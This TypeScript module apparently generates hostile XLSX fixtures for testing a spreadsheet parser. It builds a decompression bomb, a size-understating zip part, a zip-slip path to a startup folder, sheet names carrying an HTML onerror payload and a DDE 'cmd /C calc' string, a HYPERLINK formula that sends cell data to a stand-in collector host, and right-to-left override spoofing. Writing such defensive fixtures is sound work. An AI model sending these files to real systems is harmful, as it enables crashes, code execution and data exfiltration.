import { crc32, deflateRawSync } from "node:zlib"

/** Files made to hurt whoever opens them. No program writes them so; each is what a hostile sender could send. */
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
const MEBIBYTE = 1024 * 1024

/** Of one sheet of blanks, packed a thousand to one, as no list is. */
export function packedBlanks(mebibytes: number): Buffer {
  return workbookOf([{ name: "a", xml: Buffer.alloc(mebibytes * MEBIBYTE, 32) }])
}

/** Of one sheet that packs like a list and says that it is small, and is 80 MiB. */
export function understated(): Buffer {
  const one = (n: number): string => `<margin at="${(n * 2_654_435_761) % 4_294_967_296}"/>`
  const some = Array.from({ length: 40_000 }, (_, n) => one(n)).join("")
  const many = some.repeat(Math.ceil((80 * MEBIBYTE) / some.length))
  const xml = Buffer.from(`<worksheet>${many}<sheetData></sheetData></worksheet>`)
  return workbookOf([{ name: "a", xml, statedSize: 4096 }])
}

/** Sheet names that would be markup or a command elsewhere, a formula that would call home, and writing turned round. */
export const HOSTILE_SHEETS = ['<img src="/x" onerror="document.title=1">\u202e', "=cmd|' /C calc'!A0"] as const
export function booby(): Buffer {
  const call = 'HYPERLINK("http://collector.invalid/?"&amp;B2,"open")'
  const rows = [
    textRow(1, ["name", "father", "province"]),
    `<row r="2"><c r="A2" t="str"><f>${call}</f><v>Zmarai Tajriba</v></c>${textCell("B2", "Torak")}${textCell("C2", "Balkh")}</row>`,
    textRow(3, ["Khalid\u202e abirjaT", "Hamid", "Kabul"]),
    textRow(4, ["=1+1", "Omar", "Herat"]),
  ]
  const sheet = Buffer.from(`<worksheet><sheetData>${rows.join("")}</sheetData></worksheet>`)
  return workbookOf(HOSTILE_SHEETS.map((name) => ({ name, xml: sheet })))
}

/** A part whose name climbs out of the folder it is unpacked into. */
export function climbing(): Buffer {
  return zip([...skeleton(["a"]), { path: "../../startup/x.xml", bytes: Buffer.from("<x/>") }])
}

const textCell = (at: string, text: string): string => `<c r="${at}" t="inlineStr"><is><t>${escaped(text)}</t></is></c>`

function textRow(number: number, cells: readonly string[]): string {
  const written = cells.map((text, at) => textCell(`${"ABC"[at]}${number}`, text))
  return `<row r="${number}">${written.join("")}</row>`
}

const escaped = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;")

type MadeSheet = { readonly name: string; readonly xml: Buffer; readonly statedSize?: number }

function workbookOf(sheets: readonly MadeSheet[]): Buffer {
  const parts = sheets.map(({ xml, statedSize }, at) => ({ path: `xl/worksheets/s${at}.xml`, bytes: xml, statedSize }))
  return zip([...skeleton(sheets.map(({ name }) => name)), ...parts])
}

function skeleton(names: readonly string[]): Part[] {
  const link = (id: string, type: string, target: string): string =>
    `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"/>`
  const links = (inside: string): Buffer => Buffer.from(`<Relationships>${inside}</Relationships>`)
  const named = names.map((name, at) => `<sheet name="${escaped(name)}" sheetId="${at + 1}" r:id="r${at}"/>`)
  const linked = names.map((_, at) => link(`r${at}`, "worksheet", `worksheets/s${at}.xml`))
  return [
    { path: "_rels/.rels", bytes: links(link("a", "officeDocument", "xl/workbook.xml")) },
    { path: "xl/workbook.xml", bytes: Buffer.from(`<workbook><sheets>${named.join("")}</sheets></workbook>`) },
    { path: "xl/_rels/workbook.xml.rels", bytes: links(linked.join("")) },
  ]
}

type Part = { readonly path: string; readonly bytes: Buffer; readonly statedSize?: number | undefined }

/** A ZIP archive (APPNOTE 4.3) that says of its parts what it is told to say. */
function zip(parts: readonly Part[]): Buffer {
  const bodies: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const { path, bytes, statedSize = bytes.length } of parts) {
    const packed = deflateRawSync(bytes)
    const name = Buffer.from(path)
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(0x800, 2)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(crc32(bytes), 10)
    facts.writeUInt32LE(packed.length, 14)
    facts.writeUInt32LE(statedSize, 18)
    facts.writeUInt16LE(name.length, 22)
    const body = Buffer.concat([Buffer.from("PK\u0003\u0004"), facts, name, packed])
    const where = Buffer.alloc(14)
    where.writeUInt32LE(offset, 10)
    directory.push(Buffer.concat([Buffer.from("PK\u0001\u0002"), Buffer.from([20, 0]), facts, where, name]))
    bodies.push(body)
    offset += body.length
  }
  const listed = Buffer.concat(directory)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(parts.length, 4)
  end.writeUInt16LE(parts.length, 6)
  end.writeUInt32LE(listed.length, 8)
  end.writeUInt32LE(offset, 12)
  return Buffer.concat([...bodies, listed, Buffer.from("PK\u0005\u0006"), end])
}
